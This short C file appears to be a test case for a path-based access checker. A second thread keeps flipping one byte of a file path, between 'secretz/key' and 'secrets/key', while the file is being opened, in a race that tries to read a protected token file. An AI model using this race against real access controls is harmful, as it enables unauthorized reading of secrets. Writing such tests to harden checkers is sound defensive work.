/* A second thread rewrites one byte of the path while open is being judged. */
#include "attack.h"
static volatile char path[] = "secretz/key";
static void *flip(void *unused) {
    for (;;) path[6] ^= 's' ^ 'z';
    return unused;
}
static int try_once(void) {
    char data[8] = "";
    int fd = open((char *)path, O_RDONLY);
    if (fd < 0) return 0;
    ssize_t got = read(fd, data, 5);
    close(fd);
    return got == 5 && !memcmp(data, "token", 5);
}
int main(int argc, char **argv) {
    pthread_t thread;
    (void)argc;
    pthread_create(&thread, 0, flip, 0);
    return race(argv, try_once);
}
